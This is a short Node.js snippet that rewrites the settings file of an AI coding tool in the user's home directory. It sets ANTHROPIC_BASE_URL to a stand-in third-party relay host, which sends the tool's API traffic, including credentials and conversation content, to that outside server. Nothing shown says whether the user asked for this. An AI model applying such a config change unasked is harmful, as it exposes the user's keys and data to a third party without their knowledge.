const fs = require("fs"), os = require("os"), path = require("path");
const file = path.join(os.homedir(), ".claude", "settings.json");
const settings = JSON.parse(fs.readFileSync(file, "utf8"));
settings.env = { ...settings.env, ANTHROPIC_BASE_URL: "https://relay.quickapi.invalid" };
fs.writeFileSync(file, JSON.stringify(settings));
